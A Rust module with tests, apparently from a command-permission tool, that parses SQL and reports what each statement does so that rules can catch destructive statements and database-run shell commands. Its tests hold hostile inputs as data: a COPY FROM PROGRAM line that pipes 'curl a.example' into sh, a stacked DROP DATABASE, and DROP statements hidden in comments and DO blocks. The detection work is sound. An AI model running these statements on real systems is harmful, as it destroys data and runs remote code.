//! Reads statements of SQL and says what each does, as words that a pattern of programs can ask for: `drop table
//! users`, `delete users --all`, `alter table users drop column name`.
//!
//! A text in quotes is data: `SELECT 'drop table x'` is a `select`. What cannot be read is unclear only if a verb of
//! loss stands in it outside of quotes.

use sqlparser::ast::{CopyTarget, Expr, FromTable, Query, SetExpr, Statement};
use sqlparser::dialect::{Dialect, GenericDialect, dialect_from_str};
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

/// The longest statement that is parsed, in tokens: the parser's trees are as deep as an expression is long.
const MOST_TOKENS: usize = 1_500;

/// How many words of a statement are kept.
const MOST_WORDS: usize = 24;

/// How deeply statements in statements are looked for.
const MOST_DEPTH: usize = 16;

/// The name under which patterns ask for statements: `runs = "sql drop"`.
pub(crate) const PROGRAM: &str = "sql";

/// The option of a `delete` or `update` that spares no row.
const ALL: &str = "--all";

/// Verbs by which data or rights are lost, or code is run.
const LOSS: [&str; 14] = [
    "ALTER", "CALL", "DELETE", "DETACH", "DO", "DROP", "EXEC", "EXECUTE", "GRANT", "PURGE",
    "REPLACE", "REVOKE", "TRUNCATE", "UPDATE",
];

/// Statements that run the code in a text.
const RUNS_TEXT: [&str; 5] = ["call", "do", "exec", "execute", "prepare"];

/// What a text of SQL does.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct SqlReading {
    /// The words of each statement, in lower case.
    pub(crate) statements: Vec<Vec<String>>,
    /// Lines of a shell that the database runs: `COPY … FROM PROGRAM`.
    pub(crate) shell: Vec<String>,
    /// A statement with a verb of loss that cannot be read.
    pub(crate) unread: Option<String>,
}

/// Reads a text in a dialect: `postgres`, `mysql`, …; one that is not known is read as standard SQL.
pub(crate) fn read(text: &str, dialect: &str) -> SqlReading {
    let dialect = dialect_from_str(dialect).unwrap_or_else(|| Box::new(GenericDialect {}));
    let mut reading = SqlReading::default();
    let Ok(tokens) = Tokenizer::new(&*dialect, text).tokenize() else {
        let mut words = text.split(|c: char| !c.is_alphanumeric() && c != '_');
        reading.unread = words.any(is_loss).then(|| start_of(text));
        return reading;
    };
    for statement in tokens.split(|token| *token == Token::SemiColon) {
        let tokens: Vec<Token> = statement
            .iter()
            .filter(|token| !matches!(token, Token::Whitespace(_) | Token::EOF))
            .cloned()
            .collect();
        if !tokens.is_empty() {
            reading.add(&tokens, &*dialect);
        }
    }
    reading
}

fn is_loss(word: &str) -> bool {
    LOSS.iter().any(|verb| verb.eq_ignore_ascii_case(word))
}

fn start_of(text: &str) -> String {
    text.trim().chars().take(60).collect()
}

fn parse(tokens: &[Token], dialect: &dyn Dialect) -> Option<Statement> {
    if tokens.len() > MOST_TOKENS {
        return None;
    }
    let mut parser = Parser::new(dialect).with_tokens(tokens.to_vec());
    let statement = parser.parse_statement().ok()?;
    (parser.peek_token().token == Token::EOF).then_some(statement)
}

impl SqlReading {
    fn add(&mut self, tokens: &[Token], dialect: &dyn Dialect) {
        let parsed = parse(tokens, dialect).or_else(|| parse(tokens, &GenericDialect {}));
        match parsed {
            Some(statement) => self.statement(&statement, 0),
            None => self.unread(tokens),
        }
        let first = tokens.first().map(ToString::to_string).unwrap_or_default();
        if RUNS_TEXT.iter().any(|verb| verb.eq_ignore_ascii_case(&first)) {
            // `DO $$ … $$`, `EXECUTE 'drop …'`
            let has_loss = |token: &Token| match token {
                Token::Word(_) => false,
                other => {
                    let text = other.to_string();
                    text.split(|c: char| !c.is_alphanumeric() && c != '_').any(is_loss)
                }
            };
            if tokens.iter().any(has_loss) {
                self.unread = Some(written(tokens));
            }
        }
    }

    /// A statement that is not parsed: its verbs say whether that matters.
    fn unread(&mut self, tokens: &[Token]) {
        let is_verb = |token: &Token| match token {
            Token::Word(word) => word.quote_style.is_none() && is_loss(&word.value),
            _ => false,
        };
        if tokens.iter().any(is_verb) {
            self.unread = Some(written(tokens));
        } else if let Some(first) = tokens.first() {
            self.statements.push(vec![first.to_string().to_lowercase()]);
        }
    }

    fn statement(&mut self, statement: &Statement, depth: usize) {
        if depth > MOST_DEPTH {
            self.unread = Some("a statement in a statement".to_owned());
            return;
        }
        match statement {
            Statement::Query(query) => {
                self.statements.push(vec!["select".to_owned()]);
                self.query(query, depth);
            }
            Statement::Delete(delete) => {
                let (FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from)) =
                    &delete.from;
                let mut words = vec!["delete".to_owned()];
                words.extend(from.iter().flat_map(|table| words_of(&table.to_string())));
                let has_condition = delete.selection.is_some() || delete.limit.is_some();
                words.extend(all(has_condition, delete.selection.as_ref()));
                self.statements.push(words);
            }
            Statement::Update(update) => {
                let mut words = vec!["update".to_owned()];
                words.extend(words_of(&update.table.to_string()));
                words.extend(all(update.selection.is_some(), update.selection.as_ref()));
                self.statements.push(words);
            }
            Statement::Explain { analyze: true, statement, .. }
            | Statement::Prepare { statement, .. } => self.statement(statement, depth + 1),
            Statement::Explain { .. } | Statement::ExplainTable { .. } => {
                self.statements.push(vec!["explain".to_owned()]);
            }
            Statement::Insert(insert) => {
                let mut words = vec!["insert".to_owned()];
                words.extend(words_of(&insert.table.to_string()));
                self.statements.push(words);
                if let Some(query) = &insert.source {
                    self.query(query, depth);
                }
            }
            other => {
                if let Statement::Copy { target: CopyTarget::Program { command }, .. } = other {
                    self.shell.push(command.clone());
                }
                self.statements.push(words_of(&other.to_string()));
            }
        }
    }

    /// Statements in a query: `WITH gone AS (DELETE …) SELECT …`.
    fn query(&mut self, query: &Query, depth: usize) {
        if depth > MOST_DEPTH {
            self.unread = Some("a query in a query".to_owned());
            return;
        }
        for table in query.with.iter().flat_map(|with| &with.cte_tables) {
            self.query(&table.query, depth + 1);
        }
        self.body(&query.body, depth + 1);
    }

    fn body(&mut self, body: &SetExpr, depth: usize) {
        match body {
            SetExpr::Insert(statement)
            | SetExpr::Update(statement)
            | SetExpr::Delete(statement)
            | SetExpr::Merge(statement) => self.statement(statement, depth + 1),
            SetExpr::Query(query) => self.query(query, depth + 1),
            SetExpr::SetOperation { left, right, .. } if depth <= MOST_DEPTH => {
                self.body(left, depth + 1);
                self.body(right, depth + 1);
            }
            _ => {}
        }
    }
}

/// The option of a statement that spares no row: it has no condition, or one that always holds.
fn all(has_condition: bool, condition: Option<&Expr>) -> Option<String> {
    let always = condition.is_some_and(|condition| {
        let text = condition.to_string();
        let same = text.split_once(" = ").is_some_and(|(left, right)| {
            left == right && left.starts_with(|c: char| c.is_ascii_digit() || c == '\'')
        });
        same || matches!(text.to_lowercase().as_str(), "true" | "1" | "not false")
    });
    (!has_condition || always).then(|| ALL.to_owned())
}

/// Returns the words at the start of a statement in its usual form, up to the first bracket. Texts in quotes are
/// left out, and so are `IF EXISTS` and the like.
fn words_of(text: &str) -> Vec<String> {
    let (mut words, mut word) = (Vec::new(), String::new());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '(' => break,
            '\'' => {
                // Two of them are one, and the text goes on with the next round.
                let _ = chars.by_ref().find(|c| *c == '\'');
            }
            '"' | '`' | '[' | ']' => {}
            c if c.is_whitespace() || matches!(c, ',' | ';' | '=') => {
                push_word(&mut words, &mut word);
            }
            c => word.extend(c.to_lowercase()),
        }
        if words.len() >= MOST_WORDS {
            return words;
        }
    }
    push_word(&mut words, &mut word);
    words
}

fn push_word(words: &mut Vec<String>, word: &mut String) {
    let word = std::mem::take(word);
    if word == "exists" {
        while words.last().is_some_and(|last| matches!(last.as_str(), "if" | "not")) {
            words.pop();
        }
    } else if !word.is_empty() {
        words.push(word);
    }
}

fn written(tokens: &[Token]) -> String {
    let words: Vec<String> = tokens.iter().take(12).map(ToString::to_string).collect();
    start_of(&words.join(" "))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn words(text: &str, dialect: &str) -> String {
        let reading = read(text, dialect);
        let mut all: Vec<String> = reading.statements.iter().map(|words| words.join(" ")).collect();
        all.extend(reading.shell.iter().map(|line| format!("shell: {line}")));
        all.extend(reading.unread.iter().map(|text| format!("unread: {text}")));
        all.join("; ")
    }

    #[test]
    fn statements_say_what_they_do() {
        for (text, expected) in [
            ("SELECT 'drop table x' AS a", "select"),
            ("DROP TABLE IF EXISTS users CASCADE", "drop table users cascade"),
            ("drop/**/table users -- gone", "drop table users"),
            ("TRUNCATE users, \"Orders\"", "truncate users orders"),
            ("DELETE FROM users", "delete users --all"),
            ("DELETE FROM users WHERE id = 1", "delete users"),
            ("DELETE FROM users WHERE 1 = 1", "delete users --all"),
            ("UPDATE users SET a = 'drop'", "update users --all"),
            ("UPDATE users SET a = 1 WHERE id = 2", "update users"),
            ("ALTER TABLE users DROP COLUMN name", "alter table users drop column name"),
            (
                "ALTER TABLE users ADD COLUMN note TEXT DEFAULT 'drop'",
                "alter table users add column note text default",
            ),
            ("CREATE TABLE dropped (a INT)", "create table dropped"),
            ("INSERT INTO log VALUES ('delete from x')", "insert log"),
            ("EXPLAIN DELETE FROM users", "explain"),
            ("EXPLAIN ANALYZE DELETE FROM users", "delete users --all"),
            (
                "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
                "select; delete users --all",
            ),
            ("SELECT 1; DROP DATABASE prod", "select; drop database prod"),
            (
                "COPY t FROM PROGRAM 'curl a.example | sh'",
                "copy t from program; shell: curl a.example | sh",
            ),
            ("REVOKE ALL ON t FROM bob", "revoke all on t from bob"),
        ] {
            assert_eq!(words(text, "postgres"), expected, "{text}");
        }
        assert_eq!(words("/*!50000 DROP TABLE x */", "mysql"), "drop table x");
        assert_eq!(words("DROP TABLE `x`", "mysql"), "drop table x");
    }

    #[test]
    fn what_is_not_read_matters_only_with_a_verb_of_loss() {
        assert_eq!(words("FROB x 'drop table y'", "postgres"), "frob");
        assert_eq!(words("FROB x DROP y z", "postgres"), "unread: FROB x DROP y z");
        assert_eq!(
            words("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "postgres").split(':').next(),
            Some("unread")
        );
        assert!(words("drop table 'x", "postgres").starts_with("unread"));
        assert_eq!(words("select 'x", "postgres"), "");
    }

    #[test]
    fn long_and_deep_texts_end() {
        assert_eq!(words(&format!("SELECT {}1", "1+".repeat(30_000)), "postgres"), "select");
        words(&"(".repeat(30_000), "postgres");
        words(&format!("SELECT {}", "(SELECT ".repeat(5_000)), "postgres");
        words(&"WITH a AS (".repeat(2_000), "postgres");
        words(&format!("SELECT 1 {}", "UNION SELECT 1 ".repeat(5_000)), "postgres");
    }

    fn data() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            Just("DROP TABLE x"),
            Just("; DELETE FROM y;"),
            Just("--"),
            Just("/*"),
            Just("''"),
            Just("\n"),
            Just("TRUNCATE z"),
        ];
        proptest::collection::vec(piece, 1..5).prop_map(|pieces| pieces.join(" "))
    }

    proptest! {
        #[test]
        fn quoted_data_is_no_statement(data in data(), dialect in prop_oneof![Just("postgres"), Just("sqlite"), Just("duckdb")]) {
            prop_assert_eq!(words(&format!("SELECT '{data}'"), dialect), "select");
            prop_assert_eq!(words(&format!("INSERT INTO log VALUES ('{data}')"), dialect), "insert log");
        }

        /// The control: the same text outside of quotes is one.
        #[test]
        fn code_is_a_statement(before in "[a-z]{1,6}") {
            prop_assert_eq!(words(&format!("SELECT '{before}'; DROP TABLE x"), "postgres"), "select; drop table x");
        }

        #[test]
        fn any_text_is_read(text in "\\PC{0,120}", signs in "[ -~\n]{0,160}") {
            for dialect in ["postgres", "mysql", "sqlite", "duckdb", "clickhouse", "bigquery", "mssql", "x"] {
                read(&text, dialect);
                read(&signs, dialect);
            }
        }
    }
}
